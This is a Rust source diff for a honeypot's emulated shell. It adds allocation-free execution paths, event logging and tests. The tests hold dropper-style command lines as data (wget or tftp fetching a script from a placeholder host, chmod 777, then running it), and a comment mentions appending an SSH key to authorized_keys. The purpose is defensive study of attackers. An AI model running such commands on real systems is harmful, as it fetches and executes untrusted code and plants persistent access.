@@ -2,15 +2,38 @@
 //! filesystem, applies redirections and pipes, and records everything the
 //! honeypot needs — commands (known/unknown), file events with SHA-256
 //! hashes, URIs, and downloads.
+//!
+//! # Hot-path memory discipline
+//!
+//! A farm-scale day replays hundreds of thousands of sessions, so the
+//! steady-state execute path is allocation-free:
+//!
+//! - input lines parse into a reused [`LineBuf`] (one per `sh -c` depth,
+//!   pooled in [`SessionScratch`]),
+//! - pipeline stdin/stdout thread through reused `String` buffers that swap
+//!   rather than reallocate,
+//! - recorded commands and URIs are appended to a span arena ([`EventLog`])
+//!   instead of one `String` per record; [`ShellSession::take_events`]
+//!   materialises the owned [`SessionEvents`] on demand,
+//! - scratch sets recycle across sessions through a thread-local pool, so the
+//!   warm path of `new → execute* → drop` touches the allocator only for
+//!   genuine payload data (file writes, downloads).
+//!
+//! The compatibility API ([`ShellSession::execute`] returning rendered
+//! output) clones the rendered text; the simulator uses the `_quiet`
+//! variants, which do not.
+
+use std::cell::RefCell;
+use std::mem;
 
 use hf_hash::{Digest, Sha256};
 use serde::{Deserialize, Serialize};
 
-use crate::builtins::{self, CmdOutput};
-use crate::lexer::{self, Redirection, SimpleCommand};
+use crate::builtins::{self, push_utf8_lossy, PathScratch};
+use crate::lexer::{CmdView, LineBuf, RedirView, Words};
 use crate::profile::SystemProfile;
 use crate::uri;
-use crate::vfs::{resolve_path, Vfs};
+use crate::vfs::{resolve_path_into, Vfs};
 
 /// Supplies the bodies of "remote" resources for wget/curl/tftp/ftpget.
 ///
@@ -21,6 +44,13 @@ use crate::vfs::{resolve_path, Vfs};
 pub trait RemoteFetcher: Send {
     /// Fetch the body behind a URI, or `None` for unreachable hosts.
     fn fetch(&mut self, uri: &str) -> Option<Vec<u8>>;
+
+    /// If the fetcher already knows the hash of the body behind `uri`, return
+    /// it so the interpreter can skip re-hashing the download. Must equal
+    /// `Sha256::digest(&body)` for the body `fetch` would return.
+    fn digest_hint(&self, _uri: &str) -> Option<Digest> {
+        None
+    }
 }
 
 /// A fetcher for which every host is unreachable. Useful in tests and for the
@@ -103,30 +133,112 @@ pub struct ExecResult {
     pub exited: bool,
 }
 
+/// Result of a quiet (no rendered output) execution — the simulator's path.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct QuietExec {
+    /// Number of simple commands executed.
+    pub commands_run: usize,
+    /// Whether the client asked to exit (`exit` / `logout`).
+    pub exited: bool,
+}
+
+/// Append-only span arena for per-session observables. Command inputs and
+/// URIs live as byte ranges into one shared `text` buffer; only
+/// [`ShellSession::take_events`] materialises owned strings.
+#[derive(Debug, Default)]
+pub(crate) struct EventLog {
+    text: String,
+    /// (start, end, known) spans into `text`.
+    commands: Vec<(u32, u32, bool)>,
+    /// (start, end) spans into `text`.
+    pub(crate) uris: Vec<(u32, u32)>,
+    pub(crate) file_events: Vec<FileEvent>,
+    pub(crate) downloads: Vec<(String, Digest)>,
+}
+
+impl EventLog {
+    fn clear(&mut self) {
+        self.text.clear();
+        self.commands.clear();
+        self.uris.clear();
+        self.file_events.clear();
+        self.downloads.clear();
+    }
+}
+
+/// Per-`sh -c`-depth line state: the parse buffer plus the pipeline's
+/// stdin/stdout threading buffers and the line's rendered output.
+#[derive(Debug, Default)]
+struct LineScratch {
+    buf: LineBuf,
+    stdin: String,
+    stdout: String,
+    rendered: String,
+    input_redirect: String,
+}
+
+/// Reusable per-session scratch. Recycled across sessions through a
+/// thread-local pool so warm sessions never re-grow their buffers.
+///
+/// Five [`LineScratch`] slots cover the `sh -c` recursion bound: top level is
+/// depth 0 and re-entry is allowed while `depth < 4`, so lines execute at
+/// depths 0..=4.
+#[derive(Debug, Default)]
+pub struct SessionScratch {
+    lines: [LineScratch; 5],
+    paths: PathScratch,
+    spare_events: EventLog,
+}
+
+thread_local! {
+    static SCRATCH_POOL: RefCell<Vec<SessionScratch>> = const { RefCell::new(Vec::new()) };
+}
+
+const SCRATCH_POOL_CAP: usize = 8;
+
+fn scratch_from_pool() -> SessionScratch {
+    SCRATCH_POOL
+        .with(|p| p.borrow_mut().pop())
+        .unwrap_or_default()
+}
+
+fn scratch_to_pool(scratch: SessionScratch) {
+    SCRATCH_POOL.with(|p| {
+        let mut pool = p.borrow_mut();
+        if pool.len() < SCRATCH_POOL_CAP {
+            pool.push(scratch);
+        }
+    });
+}
+
 /// An interactive shell session bound to one honeypot login.
 pub struct ShellSession {
     vfs: Vfs,
     cwd: String,
     profile: SystemProfile,
     fetcher: Box<dyn RemoteFetcher>,
-    events: SessionEvents,
+    events: EventLog,
     exited: bool,
     /// Recursion guard for `sh -c`.
     depth: u32,
+    scratch: SessionScratch,
 }
 
 impl ShellSession {
     /// Start a session on a freshly seeded filesystem.
     pub fn new(profile: SystemProfile, fetcher: Box<dyn RemoteFetcher>) -> Self {
-        let vfs = Vfs::seeded(&profile);
+        let vfs = Vfs::seeded_cached(&profile);
+        let mut scratch = scratch_from_pool();
+        let events = mem::take(&mut scratch.spare_events);
         ShellSession {
             vfs,
             cwd: "/root".to_string(),
             profile,
             fetcher,
-            events: SessionEvents::default(),
+            events,
             exited: false,
             depth: 0,
+            scratch,
         }
     }
 
@@ -150,32 +262,45 @@ impl ShellSession {
         &self.vfs
     }
 
-    /// Take the accumulated events, resetting the log.
+    /// Take the accumulated events, resetting the log (arena capacity is
+    /// kept, so a pooled session's next run stays allocation-free).
     pub fn take_events(&mut self) -> SessionEvents {
-        let mut ev = std::mem::take(&mut self.events);
-        ev.uris.sort();
-        ev.uris.dedup();
-        ev
+        let ev = &mut self.events;
+        let commands = ev
+            .commands
+            .iter()
+            .map(|&(s, e, known)| CommandRecord {
+                input: ev.text[s as usize..e as usize].to_string(),
+                known,
+            })
+            .collect();
+        let mut uris: Vec<String> = ev
+            .uris
+            .iter()
+            .map(|&(s, e)| ev.text[s as usize..e as usize].to_string())
+            .collect();
+        uris.sort();
+        uris.dedup();
+        let file_events = ev.file_events.drain(..).collect();
+        let downloads = ev.downloads.drain(..).collect();
+        ev.text.clear();
+        ev.commands.clear();
+        ev.uris.clear();
+        SessionEvents {
+            commands,
+            file_events,
+            uris,
+            downloads,
+        }
     }
 
-    /// Execute one input line (may contain multiple statements).
+    /// Execute one input line (may contain multiple statements), returning
+    /// the rendered terminal output. The render is the one owned allocation;
+    /// front-ends that do not echo output should use
+    /// [`ShellSession::execute_quiet`].
     pub fn execute(&mut self, line: &str) -> ExecResult {
-        // Record URIs from the raw line first: even commands the emulation
-        // fails on get their URIs recorded (paper, Section 4).
-        for u in uri::extract_uris(line) {
-            self.events.uris.push(u.0);
-        }
-        let statements = lexer::split_statements(line);
-        let mut rendered = String::new();
-        let mut commands_run = 0;
-        for stmt in statements {
-            if self.exited {
-                break;
-            }
-            let out = self.run_pipeline(&stmt.pipeline);
-            commands_run += stmt.pipeline.len();
-            rendered.push_str(&out);
-        }
+        let commands_run = self.run_line_at_depth(line);
+        let rendered = self.scratch.lines[self.depth as usize].rendered.clone();
         ExecResult {
             rendered,
             commands_run,
@@ -183,78 +308,170 @@ impl ShellSession {
         }
     }
 
-    /// Run one pipeline, threading stdout → stdin.
-    fn run_pipeline(&mut self, pipeline: &[SimpleCommand]) -> String {
-        let mut stdin = String::new();
-        let mut rendered = String::new();
-        let n = pipeline.len();
-        for (i, cmd) in pipeline.iter().enumerate() {
-            let last = i + 1 == n;
-            let out = self.run_simple(cmd, &stdin);
-            if last {
-                rendered.push_str(&out);
-                stdin.clear();
-            } else {
-                stdin = out;
-            }
+    /// Execute one input line without materialising rendered output.
+    pub fn execute_quiet(&mut self, line: &str) -> QuietExec {
+        let commands_run = self.run_line_at_depth(line);
+        QuietExec {
+            commands_run,
+            exited: self.exited,
         }
-        rendered
     }
 
-    /// Run a single simple command with redirections.
-    fn run_simple(&mut self, cmd: &SimpleCommand, piped_stdin: &str) -> String {
-        if cmd.argv.is_empty() {
+    /// Execute a pre-parsed line without materialising rendered output — the
+    /// simulator's prepared-script path (parse once per campaign variant,
+    /// execute per session).
+    pub fn execute_parsed_quiet(&mut self, buf: &LineBuf) -> QuietExec {
+        let d = self.depth as usize;
+        let mut ls = mem::take(&mut self.scratch.lines[d]);
+        ls.rendered.clear();
+        let commands_run = self.run_statements(buf, &mut ls);
+        self.scratch.lines[d] = ls;
+        QuietExec {
+            commands_run,
+            exited: self.exited,
+        }
+    }
+
+    /// Parse and run `line` in the current depth's scratch slot, leaving the
+    /// rendered output in that slot. Returns the simple-command count.
+    fn run_line_at_depth(&mut self, line: &str) -> usize {
+        let d = self.depth as usize;
+        let mut ls = mem::take(&mut self.scratch.lines[d]);
+        let mut buf = mem::take(&mut ls.buf);
+        buf.parse(line);
+        ls.rendered.clear();
+        let commands_run = self.run_statements(&buf, &mut ls);
+        ls.buf = buf;
+        self.scratch.lines[d] = ls;
+        commands_run
+    }
+
+    /// Run all statements of a parsed line. `ls` carries the pipeline
+    /// buffers; it must not alias `self.scratch` (callers take it out of its
+    /// slot first).
+    fn run_statements(&mut self, buf: &LineBuf, ls: &mut LineScratch) -> usize {
+        // Record URIs from every parsed command before executing anything:
+        // even commands the emulation fails on — or that sit after an `exit`
+        // on the same line — get their URIs recorded (paper, Section 4).
+        for stmt in buf.statements() {
+            for cmd in stmt.commands() {
+                uri::record_from_argv(cmd.argv(), &mut self.events.text, &mut self.events.uris);
+            }
+        }
+        let mut commands_run = 0;
+        for stmt in buf.statements() {
+            if self.exited {
+                break;
+            }
+            let n = stmt.pipeline_len();
+            commands_run += n;
+            ls.stdin.clear();
+            for (i, cmd) in stmt.commands().enumerate() {
+                ls.stdout.clear();
+                self.run_simple(cmd, ls);
+                if i + 1 == n {
+                    ls.rendered.push_str(&ls.stdout);
+                } else {
+                    // Thread stdout → next command's stdin.
+                    mem::swap(&mut ls.stdin, &mut ls.stdout);
+                }
+            }
+        }
+        commands_run
+    }
+
+    /// Run a single simple command with redirections, appending its effective
+    /// stdout to `ls.stdout` (cleared by the caller).
+    fn run_simple(&mut self, cmd: CmdView<'_>, ls: &mut LineScratch) {
+        let LineScratch {
+            stdin,
+            stdout,
+            input_redirect,
+            ..
+        } = ls;
+
+        if cmd.argv().is_empty() {
             // Bare redirection like `> file` truncates/creates the file.
-            for r in &cmd.redirs {
-                if let Redirection::Out(t) = r {
+            for r in cmd.redirs() {
+                if let RedirView::Out(t) = r {
                     self.write_redirect(t, "", false);
                 }
             }
-            return String::new();
+            return;
         }
 
         // Resolve stdin: `< file` beats pipe input.
-        let mut stdin = piped_stdin.to_string();
-        for r in &cmd.redirs {
-            if let Redirection::In(src) = r {
-                let abs = resolve_path(&self.cwd, src);
-                if let Ok(content) = self.vfs.read_file(&abs) {
-                    stdin = String::from_utf8_lossy(content).into_owned();
+        let mut has_input_redirect = false;
+        for r in cmd.redirs() {
+            if let RedirView::In(src) = r {
+                resolve_path_into(&self.cwd, src, &mut self.scratch.paths.a);
+                if let Ok(content) = self.vfs.read_file(&self.scratch.paths.a) {
+                    input_redirect.clear();
+                    push_utf8_lossy(input_redirect, content);
+                    has_input_redirect = true;
                 }
             }
         }
+        let effective_stdin: &str = if has_input_redirect {
+            input_redirect
+        } else {
+            stdin
+        };
 
-        let output = self.dispatch(cmd, &stdin);
-        let (stdout, known) = (output.stdout, output.known);
+        let known = self.dispatch(cmd.argv(), effective_stdin, stdout);
 
         // Record the command as typed, including redirections — Cowrie logs
         // the full input, and `echo key >> …/authorized_keys` is one of the
         // paper's headline commands (Table 3).
-        let mut input = cmd.argv.join(" ");
-        for r in &cmd.redirs {
-            match r {
-                Redirection::Out(t) => input.push_str(&format!(" > {t}")),
-                Redirection::Append(t) => input.push_str(&format!(" >> {t}")),
-                Redirection::In(t) => input.push_str(&format!(" < {t}")),
-                Redirection::Err(t) => input.push_str(&format!(" 2>{t}")),
-                Redirection::ErrToOut => input.push_str(" 2>&1"),
+        let start = self.events.text.len() as u32;
+        {
+            let text = &mut self.events.text;
+            let mut first = true;
+            for w in cmd.argv().iter() {
+                if !first {
+                    text.push(' ');
+                }
+                first = false;
+                text.push_str(w);
+            }
+            for r in cmd.redirs() {
+                match r {
+                    RedirView::Out(t) => {
+                        text.push_str(" > ");
+                        text.push_str(t);
+                    }
+                    RedirView::Append(t) => {
+                        text.push_str(" >> ");
+                        text.push_str(t);
+                    }
+                    RedirView::In(t) => {
+                        text.push_str(" < ");
+                        text.push_str(t);
+                    }
+                    RedirView::Err(t) => {
+                        text.push_str(" 2>");
+                        text.push_str(t);
+                    }
+                    RedirView::ErrToOut => text.push_str(" 2>&1"),
+                }
             }
         }
-        self.events.commands.push(CommandRecord { input, known });
+        let end = self.events.text.len() as u32;
+        self.events.commands.push((start, end, known));
 
         // Apply output redirections.
         let mut redirected = false;
-        for r in &cmd.redirs {
+        for r in cmd.redirs() {
             match r {
-                Redirection::Out(t) => {
-                    self.write_redirect(t, &stdout, false);
+                RedirView::Out(t) => {
+                    self.write_redirect(t, stdout, false);
                     redirected = true;
                 }
-                Redirection::Append(t) => {
-                    self.write_redirect(t, &stdout, true);
+                RedirView::Append(t) => {
+                    self.write_redirect(t, stdout, true);
                     redirected = true;
                 }
-                Redirection::Err(t) if t != "/dev/null" => {
+                RedirView::Err(t) if t != "/dev/null" => {
                     // bash creates/truncates the stderr target.
                     self.write_redirect(t, "", false);
                 }
@@ -262,104 +479,127 @@ impl ShellSession {
             }
         }
         if redirected {
-            String::new()
-        } else {
-            stdout
+            stdout.clear();
         }
     }
 
     /// Write redirected output into the VFS and record the file event.
     fn write_redirect(&mut self, target: &str, content: &str, append: bool) {
-        let abs = resolve_path(&self.cwd, target);
+        resolve_path_into(&self.cwd, target, &mut self.scratch.paths.a);
+        let abs = &self.scratch.paths.a;
         if abs == "/dev/null" {
             return;
         }
         let existed = if append {
-            self.vfs.append_file(&abs, content.as_bytes())
+            self.vfs.append_file(abs, content.as_bytes())
         } else {
-            self.vfs.write_file(&abs, content.as_bytes(), 0o644)
+            self.vfs.write_file(abs, content.as_bytes(), 0o644)
         };
         if let Ok(existed) = existed {
-            self.record_file_event(&abs, existed);
+            record_file_event(&self.vfs, &mut self.events.file_events, abs, existed);
         }
     }
 
-    /// Record a file event by hashing the file's current content.
-    pub(crate) fn record_file_event(&mut self, abs: &str, existed: bool) {
-        let content = match self.vfs.read_file(abs) {
-            Ok(c) => c,
-            Err(_) => return,
+    /// Dispatch to a builtin, a file execution, or "command not found";
+    /// returns whether the command was "known". Output is appended to `out`.
+    fn dispatch(&mut self, argv: Words<'_>, stdin: &str, out: &mut String) -> bool {
+        let Some(name) = argv.first() else {
+            return true;
         };
-        self.events.file_events.push(FileEvent {
-            path: abs.to_string(),
-            op: if existed {
-                FileOp::Modified
-            } else {
-                FileOp::Created
-            },
-            size: content.len(),
-            sha256: Sha256::digest(content),
-        });
-    }
-
-    /// Dispatch to a builtin, a file execution, or "command not found".
-    fn dispatch(&mut self, cmd: &SimpleCommand, stdin: &str) -> CmdOutput {
-        let name = cmd.argv[0].as_str();
 
         // Prefix commands that wrap another command.
-        if matches!(name, "nohup" | "sudo" | "exec") && cmd.argv.len() > 1 {
-            let inner = SimpleCommand {
-                argv: cmd.argv[1..].to_vec(),
-                redirs: vec![],
-            };
-            return self.dispatch(&inner, stdin);
+        if matches!(name, "nohup" | "sudo" | "exec") && argv.len() > 1 {
+            return self.dispatch(argv.tail(1), stdin, out);
         }
 
         // Executing a path (./mal, /tmp/x): succeed quietly if it exists and
         // is executable — the behaviour droppers rely on.
         if name.contains('/') {
-            let abs = resolve_path(&self.cwd, name);
-            return if self.vfs.exists(&abs) {
-                CmdOutput::known(String::new())
-            } else {
-                CmdOutput::known(format!("-bash: {name}: No such file or directory\n"))
-            };
+            resolve_path_into(&self.cwd, name, &mut self.scratch.paths.a);
+            if !self.vfs.exists(&self.scratch.paths.a) {
+                use std::fmt::Write as _;
+                let _ = writeln!(out, "-bash: {name}: No such file or directory");
+            }
+            return true;
         }
 
-        let mut ctx = builtins::Ctx {
-            vfs: &mut self.vfs,
-            cwd: &mut self.cwd,
-            profile: &self.profile,
-            fetcher: self.fetcher.as_mut(),
-            file_events: &mut self.events.file_events,
-            downloads: &mut self.events.downloads,
-            exited: &mut self.exited,
+        let handled = {
+            let mut ctx = builtins::Ctx {
+                vfs: &mut self.vfs,
+                cwd: &mut self.cwd,
+                profile: &self.profile,
+                fetcher: self.fetcher.as_mut(),
+                file_events: &mut self.events.file_events,
+                downloads: &mut self.events.downloads,
+                exited: &mut self.exited,
+            };
+            builtins::run(&mut ctx, argv, stdin, out, &mut self.scratch.paths)
         };
-        match builtins::run(&mut ctx, &cmd.argv, stdin) {
-            Some(out) => out,
-            None => {
-                // `sh -c CMD` re-enters the interpreter (bounded depth).
-                if matches!(name, "sh" | "bash" | "ash") {
-                    if let Some(script) = flag_c_argument(&cmd.argv) {
-                        if self.depth < 4 {
-                            self.depth += 1;
-                            let res = self.execute(&script);
-                            self.depth -= 1;
-                            return CmdOutput::known(res.rendered);
-                        }
-                    }
-                    // `sh` consuming a piped script: emulate silently.
-                    return CmdOutput::known(String::new());
-                }
-                CmdOutput::unknown(format!("-bash: {name}: command not found\n"))
-            }
+        if handled {
+            return true;
         }
+
+        // `sh -c CMD` re-enters the interpreter (bounded depth).
+        if matches!(name, "sh" | "bash" | "ash") {
+            if let Some(script) = flag_c_argument(argv) {
+                if self.depth < 4 {
+                    self.depth += 1;
+                    let inner = self.depth as usize;
+                    self.run_line_at_depth(script);
+                    self.depth -= 1;
+                    out.push_str(&self.scratch.lines[inner].rendered);
+                    return true;
+                }
+            }
+            // `sh` consuming a piped script: emulate silently.
+            return true;
+        }
+        use std::fmt::Write as _;
+        let _ = writeln!(out, "-bash: {name}: command not found");
+        false
     }
 }
 
+impl Drop for ShellSession {
+    fn drop(&mut self) {
+        // Recycle the scratch set (with the cleared event arena stashed
+        // inside) for the next session on this thread.
+        let mut events = mem::take(&mut self.events);
+        events.clear();
+        let mut scratch = mem::take(&mut self.scratch);
+        scratch.spare_events = events;
+        scratch_to_pool(scratch);
+    }
+}
+
+/// Record a file event by hashing the file's current content.
+fn record_file_event(vfs: &Vfs, file_events: &mut Vec<FileEvent>, abs: &str, existed: bool) {
+    let content = match vfs.read_file(abs) {
+        Ok(c) => c,
+        Err(_) => return,
+    };
+    file_events.push(FileEvent {
+        path: abs.to_string(),
+        op: if existed {
+            FileOp::Modified
+        } else {
+            FileOp::Created
+        },
+        size: content.len(),
+        sha256: Sha256::digest(content),
+    });
+}
+
 /// Extract the argument of `-c` from an argv.
-fn flag_c_argument(argv: &[String]) -> Option<String> {
-    argv.windows(2).find(|w| w[0] == "-c").map(|w| w[1].clone())
+fn flag_c_argument<'a>(argv: Words<'a>) -> Option<&'a str> {
+    let mut idx = 0;
+    while let Some(w) = argv.get(idx) {
+        if w == "-c" {
+            return argv.get(idx + 1);
+        }
+        idx += 1;
+    }
+    None
 }
 
 #[cfg(test)]
@@ -530,5 +770,56 @@ mod tests {
         hashes.sort();
         hashes.dedup();
         assert_eq!(hashes.len(), 12, "distinct contents yield distinct hashes");
+    }
+
+    #[test]
+    fn quiet_execution_matches_rendered_events() {
+        let script = "cd /tmp; wget http://h/a.sh > log 2>&1; chmod 777 a.sh; ./a.sh; frob";
+        let mut a = session();
+        a.execute(script);
+        let ea = a.take_events();
+        let mut b = session();
+        let q = b.execute_quiet(script);
+        let eb = b.take_events();
+        assert_eq!(ea.commands, eb.commands);
+        assert_eq!(ea.file_events, eb.file_events);
+        assert_eq!(ea.uris, eb.uris);
+        assert_eq!(ea.downloads, eb.downloads);
+        assert_eq!(q.commands_run, 5);
+    }
+
+    #[test]
+    fn parsed_quiet_matches_line_execution() {
+        let script = "echo x > /a; cat /a | grep x; tftp -g -r b.sh 10.0.0.1";
+        let mut buf = LineBuf::new();
+        buf.parse(script);
+        let mut a = session();
+        a.execute(script);
+        let ea = a.take_events();
+        let mut b = session();
+        let q = b.execute_parsed_quiet(&buf);
+        let eb = b.take_events();
+        assert_eq!(ea.commands, eb.commands);
+        assert_eq!(ea.file_events, eb.file_events);
+        assert_eq!(ea.uris, eb.uris);
+        assert_eq!(ea.downloads, eb.downloads);
+        assert!(!q.exited);
+    }
+
+    #[test]
+    fn scratch_pool_reuse_is_invisible() {
+        // Two sequential sessions (second reuses the first's scratch) must
+        // behave identically to fresh ones.
+        let out1 = {
+            let mut sh = session();
+            sh.execute("uname -a; echo hi > /tmp/h; cat /tmp/h")
+                .rendered
+        };
+        let out2 = {
+            let mut sh = session();
+            sh.execute("uname -a; echo hi > /tmp/h; cat /tmp/h")
+                .rendered
+        };
+        assert_eq!(out1, out2);
     }
 }
